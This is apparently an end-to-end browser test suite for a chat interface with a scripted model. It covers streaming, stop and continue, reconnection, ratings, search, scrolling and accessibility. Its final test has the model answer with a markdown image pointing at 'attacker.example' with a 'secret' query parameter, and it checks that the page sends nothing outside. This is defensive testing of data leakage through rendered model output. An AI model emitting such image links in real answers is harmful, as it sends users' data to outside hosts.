"""The chat as a person has it, in a real Chromium with a real server and a scripted model."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Request, Route, expect

from tests.browser import chromium
from tests.chats.talking import talking
from tests.e2e.chatting import (
    A_CHAT,
    NARROW,
    WIDE,
    Person,
    another_tab,
    left_below,
    person,
    position,
)
from tests.endpoint import FIXED, Model, Script, endpoint
from tests.installation import Installation
from tests.waiting import until
from tests.wire import Wire

LONG = tuple(f"Paragraph {number} of many, with words.\n\n" for number in range(60))


@pytest.fixture(scope="module")
def scripted() -> Iterator[Model]:
    with endpoint() as running:
        yield running


@pytest.fixture(scope="module")
def club(scripted: Model, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Installation]:
    with talking(tmp_path_factory.mktemp("club"), scripted) as house:
        yield house


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


@pytest.fixture
def model(scripted: Model) -> Model:
    scripted.script = Script()
    scripted.requests.clear()
    scripted.gate.clear()
    return scripted


@pytest.fixture
def keeper(browser: Browser, club: Installation, model: Model) -> Iterator[Person]:
    with person(browser, club, model) as somebody:
        yield somebody


def test_it_works(keeper: Person, model: Model) -> None:
    """From the wall by keys to an answer, with everything that is told on the way."""
    page = keeper.page
    model.script = Script(pieces=("Based on ", "**what I know**", "."), gate_at=0)
    page.keyboard.press("g")
    page.keyboard.press("c")
    expect(page).to_have_url(re.compile("/chats$"))
    page.keyboard.press("n")
    expect(page).to_have_url(re.compile("/chats/new$"))
    expect(keeper.field).to_be_focused()
    page.keyboard.type("What plays worked well?")
    expect(page.locator("form[data-mode=send]")).to_be_visible()  # the scripts have come
    page.keyboard.press("Enter")
    expect(keeper.prompts).to_have_text(re.compile("What plays worked well?"), timeout=1000)
    expect(keeper.answers.locator(".pulse-dot")).to_be_visible()
    expect(page).to_have_url(A_CHAT)
    expect(keeper.stop).to_be_visible()
    expect(page.get_by_text("Waiting for the first word of scripted")).to_be_visible(timeout=6000)
    expect(page.locator("#spoken")).to_have_text("Answering.")
    expect(page).to_have_title("What plays worked well? · Sideline")
    model.gate.set()
    expect(keeper.words).to_have_text("Based on what I know.")
    expect(keeper.words.locator("strong")).to_have_text("what I know")
    keeper.is_over()
    expect(keeper.answers.locator(".cost")).to_contain_text("7 + 3 tokens")
    expect(page.locator("#spoken")).to_have_text("The answer is complete.")
    expect(page.get_by_text("not computed from your organization’s data")).to_be_visible()
    link = page.get_by_role("link", name="What plays worked well?")
    expect(link).to_have_attribute("aria-current", "page")
    streamed = keeper.words.inner_html()
    page.reload()
    assert keeper.words.inner_html() == streamed, "loaded as it was streamed"
    assert keeper.tab.errors == []


def test_stop_keeps_what_was_shown_and_continue_goes_on_from_there(
    keeper: Person, model: Model
) -> None:
    page = keeper.page
    model.script = Script(pieces=("Once upon", " a time"), gate_at=1)
    keeper.ask_anew("Tell me a story")
    expect(keeper.words).to_have_text("Once upon")
    keeper.field.press("Escape")
    expect(page.get_by_text("Stopped.", exact=True)).to_be_visible()
    until(lambda: model.running == 0, 5, "the model to be cancelled")
    expect(keeper.words).to_have_text("Once upon")
    model.script = Script(pieces=(" there was", " a goalie."))
    keeper.act("Continue")
    expect(keeper.words).to_have_text("Once upon there was a goalie.")
    keeper.is_over()
    expect(keeper.answers).to_have_count(1)
    expect(keeper.answers.locator("[data-place]")).to_have_text("2 / 2")
    keeper.act("The one before")
    expect(keeper.words).to_have_text("Once upon")
    keeper.act("The one after")
    expect(keeper.words).to_have_text("Once upon there was a goalie.")
    assert keeper.tab.errors == []


def test_stop_works_before_the_first_word(keeper: Person, model: Model) -> None:
    model.script = Script(gate_at=0)
    keeper.ask_anew("Are you there?")
    keeper.stop.click()
    expect(keeper.page.get_by_text("Stopped.", exact=True)).to_be_visible()
    until(lambda: model.running == 0, 5, "the model to be cancelled")
    model.script = Script(pieces=("Here.",))
    keeper.act("Try again")
    expect(keeper.words).to_have_text("Here.")


def test_try_again_and_edit_make_siblings_that_can_be_browsed(keeper: Person, model: Model) -> None:
    page = keeper.page
    model.script = lambda asked: Script(pieces=(f"To “{asked.prompt}”: {len(model.requests)}",))
    keeper.ask_anew("First")
    keeper.is_over()
    keeper.ask("Second")
    expect(keeper.words).to_have_text("To “Second”: 2")
    keeper.is_over()
    keeper.act("Answer again")
    expect(keeper.words).to_have_text("To “Second”: 3")
    keeper.is_over()
    expect(keeper.answers.last.locator("[data-place]")).to_have_text("2 / 2")
    keeper.field.press("ArrowUp")
    editor = page.get_by_role("textbox", name="The message in other words")
    expect(editor).to_have_value("Second")
    editor.fill("Third")
    editor.press("Enter")
    expect(keeper.words).to_have_text("To “Third”: 4")
    keeper.is_over()
    expect(keeper.prompts.last.locator("[data-place]")).to_have_text("2 / 2")
    keeper.prompts.last.get_by_role("button", name="The one before").click()
    expect(keeper.prompts.last.locator("[data-words]")).to_have_text("Second")
    expect(keeper.words).to_have_text("To “Second”: 3")
    expect(keeper.prompts.last.get_by_role("button", name="The one after")).to_be_focused()
    page.reload()
    expect(keeper.words).to_have_text("To “Second”: 3")


def test_reload_and_a_second_tab_in_the_middle_end_with_the_same_words(
    keeper: Person, model: Model
) -> None:
    page = keeper.page
    pieces = ("Two of ", "*these*", " words", " and a [link](/cameras)", " come", " later.")
    model.script = Script(pieces=pieces, gate_at=3)
    keeper.ask_anew("Words?")
    expect(keeper.words).to_have_text("Two of these words")
    with another_tab(keeper) as second:
        second.page.goto(page.url)
        expect(second.words).to_have_text("Two of these words")
        page.reload()
        expect(keeper.words).to_have_text("Two of these words")
        expect(keeper.stop).to_be_visible()
        model.gate.set()
        for one in (keeper, second):
            one.is_over()
            expect(one.words).to_have_text("Two of these words and a link come later.")
        assert keeper.words.inner_html() == second.words.inner_html()
        assert second.tab.errors == []
    assert len(model.requests) == 1


def test_a_prompt_of_one_tab_appears_in_the_other(keeper: Person, model: Model) -> None:
    keeper.ask_anew("Hello")
    keeper.is_over()
    with another_tab(keeper) as second:
        second.page.goto(keeper.page.url)
        model.script = Script(pieces=("As it ", "comes."), gate_at=1)
        keeper.ask("And now?")
        expect(second.prompts).to_have_count(2)
        expect(second.words).to_have_text("As it")
        second.stop.click()
        expect(keeper.page.get_by_text("Stopped.", exact=True)).to_be_visible()


def test_a_cut_connection_is_taken_up_again(
    browser: Browser, club: Installation, model: Model
) -> None:
    model.script = Script(pieces=("Before", " and", " after."), gate_at=2)
    with Wire(club.port).strung() as wire, person(browser, club, model, at=wire.url) as somebody:
        somebody.ask_anew("Cut?")
        expect(somebody.words).to_have_text("Before and")
        wire.cut()
        expect(somebody.page.get_by_text("Reconnecting, try 1 of 5")).to_be_visible()
        model.gate.set()
        wire.mend()
        somebody.is_over()
        expect(somebody.words).to_have_text("Before and after.")
        assert len(model.requests) == 1


def test_a_prompt_that_cannot_be_sent_can_be_taken_back(
    browser: Browser, club: Installation, model: Model
) -> None:
    with Wire(club.port).strung() as wire, person(browser, club, model, at=wire.url) as somebody:
        somebody.page.goto(f"{wire.url}/chats/new")
        wire.cut()
        somebody.ask("Nobody hears")
        expect(somebody.prompts).to_have_count(1)
        expect(somebody.page.get_by_text("Reconnecting, try 1 of 5")).to_be_visible()
        somebody.stop.click()
        expect(somebody.field).to_have_value("Nobody hears")
        expect(somebody.prompts).to_have_count(0)
        wire.mend()
        somebody.field.press("Enter")
        somebody.is_over()
        assert len(model.requests) == 1


def test_a_killed_server_costs_no_word_that_was_shown(browser: Browser, folder: Path) -> None:
    with endpoint() as model, talking(folder, model) as house:
        model.script = Script(pieces=("Kept", " words", " lost"), gate_at=2)
        with person(browser, house, model) as somebody:
            page = somebody.page
            somebody.ask_anew("Are you safe?")
            expect(somebody.words).to_have_text("Kept words")
            page.wait_for_timeout(500)  # what is shown is stored within 200 ms
            house.processes[-1].kill()
            expect(page.get_by_text(re.compile("^Reconnecting"))).to_be_visible()
            house.serve()
            expect(page.locator(".fault-failed")).to_contain_text(
                "server was stopped", timeout=30_000
            )
            expect(somebody.words).to_have_text("Kept words")
            model.script = Script(pieces=(" and more.",))
            somebody.act("Continue")
            expect(somebody.words).to_have_text("Kept words and more.")
            somebody.is_over()


def test_a_question_whose_answer_was_lost_is_not_asked_twice(keeper: Person, model: Model) -> None:
    """The server takes the prompt, and the network breaks before it can say so."""
    lost: list[str] = []

    def lose(route: Route) -> None:
        lost.append(route.request.headers["idempotency-key"])
        if len(lost) > 1:
            return route.continue_()
        route.fetch()
        route.abort("connectionreset")

    keeper.page.route(re.compile("/messages$"), lose)
    keeper.ask_anew("Only once")
    expect(keeper.words).to_have_text(FIXED)
    keeper.is_over()
    assert len(lost) == 2
    assert lost[0] == lost[1]
    assert len(model.requests) == 1
    keeper.page.reload()
    expect(keeper.prompts).to_have_count(1)


def test_a_refused_prompt_goes_back_to_the_field(keeper: Person, model: Model) -> None:
    page = keeper.page
    keeper.ask_anew("Hello")
    keeper.is_over()

    def refuse(route: Route) -> None:
        route.fulfill(
            status=429,
            headers={"Retry-After": "7200", "Content-Type": "application/problem+json"},
            body='{"detail": "Your tokens for today are used up."}',
        )

    page.route(re.compile("/messages$"), refuse)
    keeper.ask("A precious prompt")
    said = page.get_by_role("alert")
    expect(said).to_contain_text("Stream error: 429")
    expect(said).to_contain_text("used up. Next try: in 2 hours.")
    expect(keeper.field).to_have_value("A precious prompt")
    expect(keeper.prompts).to_have_count(1)
    page.unroute(re.compile("/messages$"))
    page.reload()
    expect(keeper.field).to_have_value("A precious prompt")
    keeper.field.press("Enter")
    expect(keeper.prompts).to_have_count(2)
    keeper.is_over()
    expect(keeper.field).to_have_value("")
    expect(said).to_be_hidden()


def test_too_long_a_prompt_is_refused_in_words_and_kept(keeper: Person) -> None:
    keeper.ask_anew("x" * 33_000)
    expect(keeper.page.get_by_role("alert")).to_contain_text("longer than 32,000 characters")
    assert len(keeper.field.input_value()) == 33_000


def test_a_second_prompt_attaches_to_the_answer_that_runs(keeper: Person, model: Model) -> None:
    """Asked in another program meanwhile, of which no tab was told."""
    keeper.ask_anew("Hello")
    keeper.is_over()
    chat = keeper.page.url.rsplit("/", 1)[-1]
    model.script = Script(pieces=("Mine ", "first."), gate_at=1)
    with keeper.house.api() as api:
        body = {"prompt": "From a program"}
        with api.stream("POST", f"/actions/chats/{chat}/messages", json=body) as other:
            next(other.iter_raw())
            until(lambda: model.running == 1, 5, "the answer to run")
            keeper.ask("From the page")
            expect(keeper.page.get_by_role("alert")).to_contain_text("being answered")
            expect(keeper.words).to_have_text("Mine")
            expect(keeper.field).to_have_value("From the page")
            model.gate.set()
            keeper.is_over()
    expect(keeper.words).to_have_text("Mine first.")


def test_a_failed_answer_says_why_and_can_be_tried_again(keeper: Person, model: Model) -> None:
    model.script = Script(status=500)
    keeper.ask_anew("Fail?")
    fault = keeper.answers.last.locator(".fault-failed")
    expect(fault).to_be_visible(timeout=15_000)
    assert re.search(r"[A-Z].*\.", fault.inner_text())
    model.script = Script(pieces=("Better.",))
    keeper.act("Try again")
    expect(keeper.words).to_have_text("Better.")
    keeper.is_over()


def test_an_empty_response_is_told(keeper: Person, model: Model) -> None:
    model.script = Script(pieces=())
    keeper.ask_anew("Nothing?")
    expect(keeper.page.locator(".toast")).to_have_text("Response was empty")
    expect(keeper.answers.last.locator(".fault")).to_contain_text("Response was empty")


def test_rating_with_a_reason_is_kept(keeper: Person) -> None:
    page = keeper.page
    keeper.ask_anew("Rate this")
    keeper.is_over()
    keeper.act("Bad answer")
    page.get_by_role("textbox", name="Why? Optional").fill("Too vague")
    page.keyboard.press("Enter")
    expect(page.get_by_text("You said: Too vague")).to_be_visible()
    page.reload()
    pressed = page.get_by_role("button", name="Bad answer")
    expect(pressed).to_have_attribute("aria-pressed", "true")
    pressed.click()
    expect(pressed).to_have_attribute("aria-pressed", "false")


def test_copies_are_what_the_model_wrote(keeper: Person, model: Model) -> None:
    model.script = Script(pieces=("Some **bold** and\n\n```py\nprint(1)\n```\n",))
    keeper.tab.context.grant_permissions(["clipboard-read", "clipboard-write"])
    keeper.ask_anew("Copy this")
    keeper.is_over()
    keeper.act("Copy the answer")
    clipboard = "navigator.clipboard.readText()"
    until(lambda: keeper.page.evaluate(clipboard).startswith("Some **bold**"), 3, "the answer")
    keeper.page.get_by_role("button", name="Copy", exact=True).click()
    until(lambda: keeper.page.evaluate(clipboard) == "print(1)\n", 3, "the code")


def test_chats_are_renamed_pinned_archived_deleted_and_brought_back(keeper: Person) -> None:
    page = keeper.page
    keeper.ask_anew("Alpha question")
    keeper.is_over()
    keeper.ask_anew("Beta question")
    keeper.is_over()
    keeper.choose(page.locator(".chat-head"), "Rename")
    page.keyboard.type("Gamma")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Gamma")).to_be_visible()
    expect(keeper.row("Gamma")).to_be_visible()
    keeper.choose(keeper.row("Alpha question"), "Pin to the top")
    expect(page.locator(".chat-row").first).to_contain_text("Alpha question")
    keeper.choose(keeper.row("Alpha question"), "Archive")
    expect(keeper.row("Alpha question")).to_have_count(0)
    page.get_by_role("link", name="Archived", exact=True).click()
    keeper.choose(keeper.row("Alpha question"), "Take out of the archive")
    expect(keeper.row("Alpha question")).to_have_count(0)
    page.get_by_role("link", name="Back to the others").click()
    keeper.choose(keeper.row("Gamma"), "Delete")
    expect(keeper.row("Gamma")).to_have_count(0)
    expect(page.get_by_text("This chat is deleted")).to_be_visible()
    page.get_by_role("button", name="Undo").click()
    expect(keeper.row("Gamma")).to_be_visible()
    expect(keeper.words).to_be_visible()
    assert keeper.tab.errors == []


def test_search_finds_words_of_titles_and_messages_as_one_types(
    keeper: Person, model: Model
) -> None:
    page = keeper.page
    model.script = Script(pieces=("The zamboni is late.",))
    keeper.ask_anew("Ice?")
    keeper.is_over()
    page.goto(f"{keeper.house.url}/chats")
    page.keyboard.press("/")
    page.keyboard.type("zamb")
    expect(page.locator(".chat-row")).to_have_count(1)
    expect(page.locator(".chat-row")).to_contain_text("The zamboni is late.")
    page.keyboard.type("xxx")
    expect(page.get_by_text("Nothing found")).to_be_visible()


def test_all_of_ones_chats_are_deleted_when_one_means_it(keeper: Person) -> None:
    page = keeper.page
    keeper.ask_anew("Soon gone")
    keeper.is_over()
    page.get_by_role("button", name="Delete all").click()
    page.get_by_role("dialog").get_by_role("button", name="Cancel").click()
    expect(keeper.row("Soon gone")).to_be_visible()
    page.get_by_role("button", name="Delete all").click()
    page.get_by_role("dialog").get_by_role("button", name="Delete all").click()
    expect(page.get_by_text("No chats yet.")).to_be_visible()
    expect(page.locator(".notice")).to_contain_text("deleted")


def test_the_end_is_followed_and_the_scroll_never_stolen(keeper: Person, model: Model) -> None:
    page = keeper.page
    model.script = Script(pieces=LONG, pause=0.02, gate_at=45)
    keeper.ask_anew("Much")
    expect(keeper.words).to_contain_text("Paragraph 44", timeout=15_000)
    until(lambda: left_below(page) <= 1, 3, "the end to be in view")
    page.locator("[data-scroller]").hover()
    page.mouse.wheel(0, -600)
    until(lambda: left_below(page) > 300, 3, "the reader to be above")
    jump = page.get_by_role("button", name="Jump to the end")
    expect(jump).to_be_visible()
    before = position(page)
    model.gate.set()
    keeper.is_over()
    assert position(page) == before
    jump.click()
    until(lambda: left_below(page) <= 1, 3, "the end")
    expect(jump).to_be_hidden()


def test_nothing_moves_when_the_answer_ends(keeper: Person, model: Model) -> None:
    model.script = Script(pieces=("Almost", " done."), gate_at=2)
    keeper.ask_anew("Still?")
    expect(keeper.words).to_have_text("Almost done.")
    expect(keeper.prompts.get_by_role("button", name="Edit this message")).to_be_visible()
    before = (keeper.answers.bounding_box(), keeper.words.bounding_box())
    model.gate.set()
    keeper.is_over()
    assert (keeper.answers.bounding_box(), keeper.words.bounding_box()) == before


def test_earlier_messages_of_a_long_chat_stay_while_it_goes_on(
    keeper: Person, model: Model
) -> None:
    model.script = Script(pieces=("Yes.",))
    keeper.ask_anew("Number 0")
    keeper.is_over()
    chat = keeper.page.url.rsplit("/", 1)[-1]
    with keeper.house.api() as api:
        for number in range(1, 33):
            api.post(f"/actions/chats/{chat}/messages", json={"prompt": f"Number {number}"})
    keeper.page.reload()
    expect(keeper.answers).to_have_count(30)
    expect(keeper.page.get_by_role("link", name="Show 6 earlier messages")).to_be_visible()
    keeper.ask("Number 33")
    expect(keeper.answers).to_have_count(31)
    keeper.is_over()
    expect(keeper.answers).to_have_count(31)
    keeper.page.get_by_role("link", name="Show 6 earlier messages").click()
    expect(keeper.answers).to_have_count(34)


def test_the_organization_of_a_new_chat_is_asked_for_where_none_is_in_front(
    browser: Browser, model: Model, tmp_path_factory: pytest.TempPathFactory
) -> None:
    with talking(tmp_path_factory.mktemp("two"), model) as house:
        house.manage(
            "shell",
            "-v0",
            "-c",
            "from cameras.models import *\n"
            "other = Organization.objects.create(name='Annex', slug='annex')\n"
            "user = User.objects.get(username='keeper')\n"
            "Membership.objects.create(user=user, organization=other, role='viewer')",
        )
        with person(browser, house, model) as somebody:
            page = somebody.page
            page.goto(f"{house.url}/chats/new")
            somebody.ask("Whose?")
            expect(page.get_by_label("For")).to_be_focused()
            expect(somebody.field).to_have_value("Whose?")
            expect(somebody.prompts).to_have_count(0)
            page.get_by_label("For").select_option("Club")
            somebody.field.press("Enter")
            somebody.is_over()
            page.goto(f"{house.url}/chats")
            expect(somebody.row("Whose?")).to_contain_text("Club")


@pytest.mark.parametrize("viewport", [WIDE, NARROW], ids=["wide", "narrow"])
def test_pages_fit_and_every_control_has_a_name_and_is_reached(
    browser: Browser, club: Installation, model: Model, viewport: dict[str, int]
) -> None:
    wide = "| a | b |\n|--|--|\n| " + "x" * 200 + " | " + "y" * 200 + " |\n\n"
    model.script = Script(pieces=(wide, "```\n" + "z" * 400 + "\n```\n\n", "w" * 300))
    with person(browser, club, model, viewport) as somebody:
        page = somebody.page
        somebody.ask_anew("q" * 200)
        somebody.is_over()
        for path in ("/chats", "/chats/new", "/chats?archived=1", page.url):
            page.goto(path if "://" in path else club.url + path)
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
            assert page.evaluate(NAMELESS) == [], path
        reached = set()
        for _ in range(60):
            page.keyboard.press("Tab")
            reached.add(page.evaluate(FOCUSED))
        for name in ("Message", "Options of this chat", "Copy the answer", "Edit this message"):
            assert f"true {name}" in reached
        assert not [one for one in reached if one.startswith("false")]
        if viewport == NARROW:
            expect(page.locator("[data-list]")).to_be_hidden()
            page.get_by_role("link", name="All chats").click()
            expect(page.locator("[data-list]")).to_be_visible()
            expect(page.locator("[data-conversation]")).to_be_hidden()


NAMELESS = """() => [...document.querySelectorAll("a, button, input, select, textarea")]
    .filter((one) => one.type !== "hidden" && one.checkVisibility() && one.ariaHidden !== "true")
    .filter((one) => !(one.innerText?.trim() || one.getAttribute("aria-label")
        || one.labels?.length || one.title))
    .map((one) => one.outerHTML)"""
FOCUSED = """() => {
    const on = document.activeElement;
    const ring = (one) => {
        const style = getComputedStyle(one);
        return style.outlineStyle !== "none" || style.boxShadow !== "none";
    };
    const shown = on === document.body || ring(on) || ring(on.closest(".composer-box") ?? on);
    return `${shown} ${on.getAttribute("aria-label") || on.textContent.trim().slice(0, 40)}`;
}"""


def test_the_page_asks_nothing_of_anybody_else(keeper: Person, model: Model) -> None:
    asked: list[str] = []

    def note(request: Request) -> None:
        if not request.url.startswith((keeper.house.url, "data:", "blob:")):
            asked.append(request.url)

    keeper.page.on("request", note)
    model.script = Script(pieces=("![x](https://attacker.example/p.png?q=secret)",))
    keeper.ask_anew("Picture?")
    keeper.is_over()
    assert asked == []
